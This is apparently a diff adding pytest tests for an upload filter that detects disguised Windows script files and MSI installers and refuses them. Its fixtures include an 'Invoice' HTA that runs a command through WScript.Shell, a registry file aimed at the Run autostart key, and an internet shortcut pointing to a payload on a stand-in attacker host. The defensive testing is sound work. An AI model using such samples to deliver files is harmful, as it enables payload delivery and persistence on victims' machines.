@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import uuid
+
 import pytest
 
 from landing.uploads import content
@@ -134,3 +136,90 @@ def test_image_family_accepts_another_image_format():
 def test_empty_bytes_detect_nothing():
     assert content.detect(b"") is None
     assert content.violation("image/png", None) is None
+
+
+# Script formats without a magic number, as attackers send them (a .bat or .vbs has none at all: the
+# announced file name and the key's extension decide those, see test_uploads_rules.py).
+HTA = (
+    b'<html><head><title>Invoice</title>\r\n<HTA:APPLICATION ID="inv" WINDOWSTATE="minimize">\r\n'
+    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc.exe"</script></head></html>\r\n'
+)
+WSF = b'<?xml version="1.0"?>\r\n<job id="x"><script language="JScript">WScript.Echo(1);</script></job>\r\n'
+SCT = (
+    b'<?XML version="1.0"?>\r\n<scriptlet><registration progid="x"/><script language="JScript"/></scriptlet>'
+)
+LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
+REG = b"REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
+URL = b"[InternetShortcut]\r\nURL=file://attacker.example/share/payload.exe\r\n"
+
+
+@pytest.mark.parametrize(
+    ("data", "label"),
+    [
+        (HTA, "an HTML Application (HTA)"),
+        (WSF, "a Windows Script File (WSF)"),
+        (SCT, "a Windows scriptlet (SCT)"),
+        (LNK, "Windows shortcut file (.lnk)"),
+        (REG, "WinNT Registry|Registry Undo files (.reg)"),
+        (URL, "Internet shortcut (.url)"),
+    ],
+)
+@pytest.mark.parametrize("declared", ["text/plain", "application/octet-stream", "text/csv"])
+def test_script_formats_without_a_magic_number_are_refused_where_their_bytes_tell(data, label, declared):
+    detected = content.detect(data)
+
+    assert detected is not None and detected.executable and detected.label == label
+    assert check(declared, data).endswith(f"executables and scripts are not accepted as {declared}")
+
+
+def test_html_and_xml_that_run_nothing_are_still_text():
+    assert check("text/plain", b"<html><body><p>job done</p></body></html>") is None
+    assert check("text/plain", b'<?xml version="1.0"?><jobs><job id="1"/></jobs>') is None
+
+
+def first_window(data: bytes) -> tuple[bytes, bytes]:
+    """What ingest reads: the first 4 KiB, and the OLE root entry fetched where the header says it is."""
+    offset = content.root_entry_offset(data)
+    assert offset is not None
+    return data[:4096], data[offset : offset + content.DIRECTORY_ENTRY_BYTES]
+
+
+def test_an_msi_whose_directory_lies_past_the_first_4_kib_is_an_installer():
+    data = files.msi(directory_sector=12)
+    window, root = first_window(data)
+    assert content.root_entry_offset(data) == 13 * 512 > len(window)
+
+    detected = content.detect(window, root)
+
+    assert (detected.media_type, detected.label) == ("application/x-msi", "a Windows Installer package (MSI)")
+    for declared in ("application/msword", "application/vnd.ms-excel", "application/octet-stream"):
+        assert check(declared, data[:4096]) is not None
+        assert content.violation(declared, detected).startswith("content is a Windows Installer package")
+
+
+def test_the_installer_clsid_is_compared_as_ole_stores_it_little_endian():
+    data = files.msi()
+    # DESIGN.md's pitfall: {000C1084-0000-0000-C000-000000000046} as uuid bytes_le.
+    assert data[512 + 0x50 : 512 + 0x60].hex() == "84100c0000000000c000000000000046"
+    assert content.detect(data).executable
+    big_endian = files.ole(clsid=str(uuid.UUID(bytes_le=uuid.UUID(files.MSI_CLSID).bytes)))
+    assert not content.detect(big_endian).executable
+
+
+def test_an_ole_file_whose_root_storage_is_not_read_counts_as_a_possible_installer():
+    window, _ = first_window(files.ole(files.WORD_CLSID, directory_sector=12))
+
+    detected = content.detect(window)
+
+    assert detected.executable and "possibly an installer" in detected.label
+    assert check("application/octet-stream", window) is not None
+
+
+def test_an_office_file_whose_directory_lies_past_the_first_4_kib_passes_once_its_root_is_read():
+    window, root = first_window(files.ole(files.WORD_CLSID, directory_sector=12))
+
+    detected = content.detect(window, root)
+
+    assert not detected.executable
+    assert content.violation("application/msword", detected) is None
+    assert content.violation("application/octet-stream", detected) is None
